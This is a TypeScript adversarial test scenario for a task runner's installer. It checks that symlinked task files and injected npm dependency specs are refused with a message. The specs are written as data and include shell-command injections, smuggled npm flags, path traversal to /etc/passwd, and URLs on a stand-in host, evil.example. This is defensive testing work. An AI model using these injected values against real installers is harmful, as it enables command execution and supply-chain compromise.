/**
 * Issue 10.15 and the dependency-spec injections: nothing is refused without a
 * word, and no spec reaches npm carrying a flag, a path, a URL or a shell. A
 * symlinked task file (inside and outside tasks/), a symlink loop, a linked
 * folder, a missing tasks.directory; and specs trying to inject, against a local
 * registry that counts every request and a marker file a shell would create.
 */
import { existsSync } from "node:fs";
import { mkdir, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { hostEvents } from "../../tests/support/fault-host.ts";
import { status } from "../../tests/support/history.ts";
import { startLocalRegistry } from "../../tests/support/local-registry.ts";
import { taskSource } from "../../tests/support/task-sources.ts";
import { waitFor } from "../../tests/support/wait-for.ts";
import { inProject, type Scenario } from "./adversarial-support.ts";

const SOURCE = taskSource({ schedule: "every(10).minutes", body: 'ctx.log.info("tick");' });

/** Specs that try to get something past the installer; `PWN` is a file a shell would create. */
const specs = (pwn: string) => [
  "lodash@4 --foreground-scripts",
  "--registry=http://evil.example",
  "dayjs@latest --registry=http://evil.example",
  "lodash@4 --prefix=/",
  "-g",
  "lodash@4\n--ignore-scripts=false",
  `lodash; touch ${pwn}`,
  `$(touch ${pwn})`,
  `\`touch ${pwn}\``,
  `lodash && touch ${pwn}`,
  `lodash|touch ${pwn}`,
  "file:../../etc",
  "../../../etc/passwd",
  "/etc/passwd",
  "git+ssh://git@evil.example/x.git",
  "github:evil/x",
  "https://evil.example/x.tgz",
  "npm:evil@1",
];

export const quietRefusals: Scenario = {
  item: "15",
  attack: "quiet refusals and dependency-spec injections",
  run: async () => {
    const registry = await startLocalRegistry();
    try {
      return await inProject({ dependencies: { registry: registry.url } }, async (project) => {
        const pwn = path.join(project.root, "pwned");
        const tasks = path.join(project.root, "tasks");
        await mkdir(path.join(project.root, "elsewhere"));
        await writeFile(path.join(project.root, "elsewhere", "real.ts"), SOURCE);
        await project.writeTask("plain.ts", SOURCE);
        await symlink("../elsewhere/real.ts", path.join(tasks, "outside.ts"));
        await symlink("plain.ts", path.join(tasks, "inside.ts"));
        await symlink("self.ts", path.join(tasks, "self.ts"));
        await symlink(".", path.join(tasks, "loopdir"));
        const injections = specs(pwn);
        for (const [i, spec] of injections.entries()) {
          await project.writeTask(`dep-${i}.ts`, `---\ndependencies: [${JSON.stringify(spec)}]\n---\n${SOURCE}`);
        }
        const host = await project.start();
        const report = await waitFor(
          async () => {
            const r = await status(project);
            return injections.every((_, i) => r.tasks.some((t) => t.id === `dep-${i}` && t.state !== "installing")) ? r : null;
          },
          { timeoutMs: 120_000, what: "every task file loaded" },
        );
        const byId = new Map(report.tasks.map((t) => [t.id, t]));
        const checks: Array<[string, boolean]> = [
          ["a task file linked from outside tasks/", /symbolic link/.test(byId.get("outside")?.error ?? "")],
          ["a task file linked inside tasks/", /symbolic link/.test(byId.get("inside")?.error ?? "")],
          ["a link to itself", /loops back on itself/.test(byId.get("self")?.error ?? "")],
          ["a linked folder, said once", (await hostEvents(project, "tasks.skipped")).filter((e) => String(e.msg).startsWith("loopdir")).length === 1],
          ["the loop's ELOOP not repeated", (await hostEvents(project, "watch.error")).length <= 1],
        ];
        for (const [i, spec] of injections.entries()) {
          const task = byId.get(`dep-${i}`);
          checks.push([`spec ${JSON.stringify(spec)}`, task?.state === "error" && /dependency/.test(task.error ?? "")]);
        }
        await host.stop();
        checks.push(["npm never asked, no shell ran", registry.requests.length === 0 && !existsSync(pwn)]);
        // A tasks.directory that does not exist: started, and said so.
        await project.writeConfig({ tasks: { directory: "no/such/tasks" }, dependencies: { registry: registry.url } });
        const empty = await project.start();
        checks.push(["a missing tasks.directory", (await hostEvents(project, "tasks.skipped")).some((e) => String(e.msg).includes("no/such/tasks does not exist"))]);
        await empty.stop();
        const quiet = checks.filter(([, ok]) => !ok).map(([what]) => what);
        return [
          {
            item: "15",
            attack: `4 symlinks in tasks/ (inside, outside, loop, folder), a missing tasks.directory, ${injections.length} dependency specs trying flags, shells, paths, URLs, git, aliases`,
            refused: { ok: checks.length - quiet.length, of: checks.length },
            held: quiet.length === 0,
            measured: quiet.length ? `let through or quiet: ${quiet.slice(0, 4).join("; ")}` : `each refused or reported, naming it; the registry got ${registry.requests.length} requests, no shell ran`,
          },
        ];
      });
    } finally {
      await registry.close();
    }
  },
};
